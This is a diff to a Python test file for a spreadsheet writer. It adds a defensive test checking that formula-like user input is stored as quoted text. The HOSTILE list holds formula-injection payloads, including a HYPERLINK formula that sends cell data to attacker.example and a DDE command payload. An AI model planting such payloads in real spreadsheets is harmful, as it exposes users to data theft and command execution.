@@ -6,7 +6,7 @@ import io
 
 from openpyxl import load_workbook
 
-from handlers.referrals.xlsx_writer import XlsxWriter, column_letter
+from bot.core.spreadsheet import XlsxWriter, column_letter
 
 
 def test_column_letters() -> None:
@@ -30,3 +30,22 @@ def test_values_round_trip_through_openpyxl() -> None:
                     ["bellgone", 0, None, None, None, None]]
     assert [list(r) for r in workbook.worksheets[1].iter_rows(values_only=True)] == [
         ["Tuần 1", "Chính thức"]]
+
+
+# What people may type into a deed, a village or a works name, and what Excel would run.
+HOSTILE = ['=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0",
+           "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", "=1+1"]
+
+
+def test_text_that_starts_like_a_formula_is_written_as_text() -> None:
+    out = io.BytesIO()
+    book = XlsxWriter(out)
+    sheet = book.sheet("Hostile")
+    sheet.append([*HOSTILE, -5, "an toàn"])
+    book.close()
+    cells = next(load_workbook(io.BytesIO(out.getvalue())).worksheets[0].iter_rows())
+    assert [c.data_type for c in cells] == ["s"] * len(HOSTILE) + ["n", "s"]
+    assert [c.value for c in cells[:len(HOSTILE)]] == HOSTILE  # kept exactly as typed
+    # Excel, LibreOffice and Google Sheets show these as text even after an edit.
+    assert all(c.quotePrefix for c in cells[:len(HOSTILE)])
+    assert not cells[-1].quotePrefix and cells[-2].value == -5
